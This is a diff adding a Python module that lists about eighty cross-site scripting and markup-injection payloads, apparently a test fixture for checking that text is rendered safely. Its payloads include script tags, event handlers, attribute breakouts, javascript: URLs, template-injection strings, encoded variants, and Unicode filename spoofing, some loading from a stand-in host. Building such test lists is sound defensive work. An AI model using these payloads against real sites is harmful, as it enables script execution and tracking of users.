@@ -1,0 +1,98 @@
+"""Texts that would run, load or break out where a text is taken for markup, script or an address.
+
+Each that can run sets `window.hacked`; each that can load names a host that does not exist.
+"""
+
+_RUN = "window.hacked=1"
+_HOST = "tracker.example"
+
+PAYLOADS = [
+    # Elements that run when they are parsed
+    f"<script>{_RUN}</script>",
+    f"<SCRIPT SRC=//{_HOST}/x.js></SCRIPT>",
+    f"<script type=module>{_RUN}</script>",
+    f'<script src="data:text/javascript,{_RUN}"></script>',
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"</script><script>{_RUN}</script>",
+    f"</textarea><script>{_RUN}</script>",
+    f"</title><script>{_RUN}</script>",
+    f"</style><script>{_RUN}</script>",
+    f"--><script>{_RUN}</script><!--",
+    f"]]><script>{_RUN}</script>",
+    f"<img src=x onerror={_RUN}>",
+    f"<img src=x onerror='{_RUN}'",  # never closed
+    f'<img src="https://{_HOST}/pixel.png">',
+    f"<img/src=x/onerror={_RUN}//",
+    f"<IMG SRC=x oNeRrOr={_RUN}>",
+    f"<image href=x onerror={_RUN}>",
+    f"<svg onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<svg><a href=javascript:{_RUN}><text y=20>x</text></a></svg>",
+    f"<svg><use href=https://{_HOST}/s.svg#x>",
+    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
+    f"<body onload={_RUN}>",
+    f"<iframe src=javascript:{_RUN}></iframe>",
+    f'<iframe srcdoc="<script>parent.{_RUN[7:]}</script>"></iframe>',
+    f"<iframe src=https://{_HOST}/></iframe>",
+    f"<object data=https://{_HOST}/x></object>",
+    f"<embed src=https://{_HOST}/x>",
+    f"<video src=x onerror={_RUN}></video>",
+    f"<video poster=https://{_HOST}/p.png></video>",
+    f"<audio src=x onerror={_RUN}>",
+    f"<details open ontoggle={_RUN}>x</details>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<select autofocus onfocus={_RUN}>",
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<link rel=stylesheet href=https://{_HOST}/x.css>",
+    f"<link rel=preload as=image href=https://{_HOST}/x.png>",
+    f"<meta http-equiv=refresh content='0;url=https://{_HOST}/'>",
+    f"<base href=https://{_HOST}/>",
+    f"<form action=https://{_HOST}/><button>x</button></form>",
+    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
+    f"<depeche-widget data-widget=demo data-opened></depeche-widget><img src=x onerror={_RUN}>",
+    # Styles that reach out of their box
+    f"<style>@import 'https://{_HOST}/x.css'; * {{ display: none }}</style>",
+    "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>cover</div>",
+    f"<p style='background:url(https://{_HOST}/x.png)'>x</p>",
+    # Out of an attribute
+    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
+    f"' onfocus='{_RUN}' autofocus tabindex=0 '",
+    f'"><img src=x onerror={_RUN}>',
+    f"'><svg onload={_RUN}>",
+    f"` onmouseover={_RUN} `",
+    # Addresses
+    f"javascript:{_RUN}",
+    f"JaVaScRiPt:{_RUN}",
+    f" javascript:{_RUN}",
+    f"java\nscript:{_RUN}",
+    f"\x01javascript:{_RUN}",
+    f"javascript://{_HOST}/%0a{_RUN}",
+    f"https:javascript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    f"vbscript:{_RUN}",
+    f"blob:https://{_HOST}/x",
+    f"//{_HOST}/x",
+    f'https://{_HOST}/" onclick="{_RUN}',
+    # Markdown, templates, entities, encodings
+    f"![x](https://{_HOST}/x.png)",
+    f"[x](javascript:{_RUN})",
+    f"<https://{_HOST}>",
+    f"[x]: javascript:{_RUN}",
+    "{{constructor.constructor('" + _RUN + "')()}}",
+    "${" + _RUN + "}",
+    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
+    f"&#60;img src=x onerror={_RUN}&#62;",
+    f"\\u003cimg src=x onerror={_RUN}\\u003e",
+    f"%3Cimg%20src=x%20onerror={_RUN}%3E",
+    f"x\ufeff<img src=x onerror={_RUN}>",
+    f"<\x00script>{_RUN}</script>",
+    f"＜script＞{_RUN}＜/script＞",
+    # Text that moves other text or pushes its box apart
+    "\u202egnp.exe \u2066\u2067 [1] \u2069",
+    "W" * 900,
+    "e" + "\u0301" * 300,
+    "__proto__",
+]
+"""At least sixty; every one is shown as it is written."""
